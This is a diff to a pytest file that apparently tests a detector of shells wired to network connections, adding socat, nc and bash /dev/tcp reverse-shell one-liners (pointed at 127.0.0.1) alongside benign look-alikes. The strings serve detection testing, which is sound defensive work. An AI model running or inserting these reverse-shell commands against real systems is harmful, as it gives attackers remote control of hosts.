@@ -138,20 +138,44 @@ _OVER_STREAMS = {
     "socat and a fifo": "mkfifo a; sh <a 2>&1 | socat - tcp:127.0.0.1:{port} >a &",
     "pipes alone": "nc -l -s 127.0.0.1 -p {free} 0<&- | sh 2>&1 | nc 127.0.0.1 {port} &"
     " sleep 0.3; nc 127.0.0.1 {free} &",
+    "a pair of sockets": "socat tcp:127.0.0.1:{port} exec:/bin/bash &",
+    "a terminal": "socat tcp:127.0.0.1:{port} exec:/bin/bash,pty,stderr,setsid,sane &",
+    "two programs and a terminal": "socat pty,link=t,raw exec:/bin/bash & sleep 0.3; socat tcp:127.0.0.1:{port} ./t &",
+    "a recorder's terminal": "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; script -qc bash /dev/null <&3 >&3' &",
 }
 
 
-@pytest.mark.requires("command:nc", "command:socat")
+@pytest.mark.requires("command:nc", "command:socat", "command:script")
 @pytest.mark.parametrize("script", [pytest.param(script, id=name) for name, script in _OVER_STREAMS.items()])
 def test_a_shell_that_a_connection_reaches_over_streams(script: str, bench: Bench) -> None:
     seen = _around_a_connection(bench, script)
     assert {one for one in seen if one[1] != "informational"} == {("shell_on_connection", "high")}
 
 
+@pytest.mark.requires("command:bash")
+def test_a_shell_that_reads_commands_from_a_connection_of_its_own(bench: Bench) -> None:
+    loop = "exec 5<>/dev/tcp/127.0.0.1/{port}; while read line <&5; do eval $line >&5; done"
+    assert _around_a_connection(bench, f"bash -c '{loop}' &") == {("piped_program_connected", "low")}
+
+
 _ORDINARY_STREAMS = {
+    "a descriptor that was left open": """/usr/bin/python3 -c '
+import socket, subprocess
+connection = socket.create_connection(("127.0.0.1", {port}))
+subprocess.run(["bash", "-c", "sleep 1000; true"], pass_fds=[connection.fileno()])' &""",
     "a fifo that a script writes": "mkfifo f; sh <f & (echo sleep 1000; sleep 1000) >f &"
     " nc 127.0.0.1 {port} </dev/null &",
     "a logger": "mkfifo f; nc 127.0.0.1 {port} <f & sh -c 'sleep 1000; true' >f &",
+    "a recorder of a session": "script -qc 'sh -c \"sleep 1000; true\"' /dev/null & nc 127.0.0.1 {port} </dev/null &",
+    "a terminal of a program with a connection": """/usr/bin/python3 -c '
+import os, pty, socket
+child, master = pty.fork()
+if not child: os.execv("/bin/bash", ["bash", "-i"])
+connection = socket.create_connection(("127.0.0.1", {port})); os.waitpid(child, 0)' &""",
+    "a pair of sockets of a program with a connection": """/usr/bin/python3 -c '
+import socket, subprocess
+connection, (mine, its) = socket.create_connection(("127.0.0.1", {port})), socket.socketpair()
+subprocess.run(["bash", "-s"], stdin=its, stdout=its)' &""",
     "a pipe to a logger": "sh -c 'sleep 1000; true' | nc 127.0.0.1 {port} &",
     "automation": """/usr/bin/python3 -c '
 import socket, subprocess
@@ -161,7 +185,7 @@ shell.stdin.write(b"sleep 1000; true\\n"); shell.stdin.flush(); shell.wait()' &"
 }
 
 
-@pytest.mark.requires("command:nc")
+@pytest.mark.requires("command:nc", "command:script")
 @pytest.mark.parametrize("script", [pytest.param(script, id=name) for name, script in _ORDINARY_STREAMS.items()])
 def test_streams_beside_a_connection_are_ordinary(script: str, bench: Bench) -> None:
     assert {severity for _subtype, severity in _around_a_connection(bench, script)} <= {"informational"}
@@ -191,6 +215,18 @@ def test_a_reverse_shell_without_shellcode(bench: Bench) -> None:
             "/bin/bash", "--norc", "-i", speaks=False, stdin=number, stderr=number, name="nginx: worker"
         )
         assert _seen(started) == {("shell_on_connection", "high"), ("system_program_name", "high")}
+
+
+def test_a_shell_that_was_made_longer_is_one(bench: Bench) -> None:
+    """Have another size and other headers than the host's shell."""
+    copy = pathlib.Path(shutil.copy("/bin/bash", bench.programs / "agent"))
+    content = bytearray(copy.read_bytes() + b"more")
+    content[9] = 1
+    copy.write_bytes(content)
+    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()) as client:
+        number = client.fileno()
+        started = bench.run(str(copy), "--norc", "-i", speaks=False, stdin=number, stderr=number)
+        assert _seen(started) == {("shell_on_connection", "high")}
 
 
 def test_a_script_that_is_deleted_while_it_runs(bench: Bench) -> None:
